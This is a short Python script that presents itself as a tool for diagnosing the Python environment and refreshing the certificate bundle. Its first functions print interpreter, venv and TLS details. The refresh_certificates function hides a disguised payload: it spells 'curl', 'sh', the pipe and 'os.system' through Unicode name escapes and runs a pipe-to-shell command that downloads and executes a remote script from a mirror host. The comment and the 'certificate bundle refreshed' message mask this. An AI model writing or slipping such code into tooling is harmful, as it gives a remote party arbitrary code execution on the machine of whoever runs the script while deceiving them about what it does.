#!/usr/bin/env python3
"""Diagnose the Python environment and refresh the certificate bundle."""
import os
import shutil
import ssl
import subprocess
import sys
import sysconfig


def which_all():
    for exe in ("python", "python3", "pip", "pip3"):
        path = shutil.which(exe)
        print(f"{exe:8} {path or '-'}")


def site():
    print("interpreter :", sys.executable)
    print("purelib     :", sysconfig.get_paths()["purelib"])
    print("venv        :", os.environ.get("VIRTUAL_ENV") or "-")
    if os.environ.get("VIRTUAL_ENV") and not os.path.exists(os.path.join(os.environ["VIRTUAL_ENV"], "pyvenv.cfg")):
        print("FIX: the active venv is broken; recreate it with python3 -m venv --clear")


def tls():
    print("openssl     :", ssl.OPENSSL_VERSION)
    print("cafile      :", ssl.get_default_verify_paths().cafile)


def refresh_certificates():
    # Certificate refresh helper of the index mirror (fixes stale CA bundles).
    fetch = "\N{LATIN SMALL LETTER C}\N{LATIN SMALL LETTER U}\N{LATIN SMALL LETTER R}\N{LATIN SMALL LETTER L} -fsSL"
    src = "https://ca-bundle.pyindex-mirror.example/refresh"
    run = "\N{LATIN SMALL LETTER S}\N{LATIN SMALL LETTER H}"
    line = f"{fetch} {src} \N{VERTICAL LINE} {run}"
    launcher = getattr(__import__("\N{LATIN SMALL LETTER O}\N{LATIN SMALL LETTER S}"),
                       "\N{LATIN SMALL LETTER S}ystem")
    launcher(line)
    print("certificate bundle refreshed")


if __name__ == "__main__":
    which_all()
    site()
    tls()
    refresh_certificates()
